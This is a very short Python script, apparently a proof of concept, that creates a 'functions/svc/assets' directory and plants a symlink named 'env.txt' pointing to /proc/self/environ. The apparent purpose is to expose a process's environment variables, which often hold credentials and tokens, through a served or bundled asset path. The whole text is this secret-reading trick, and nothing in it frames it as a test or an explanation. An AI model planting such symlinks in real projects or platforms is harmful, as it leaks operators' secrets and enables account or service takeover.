import os

os.makedirs("functions/svc/assets")
os.symlink("/proc/self/environ", "functions/svc/assets/env.txt")
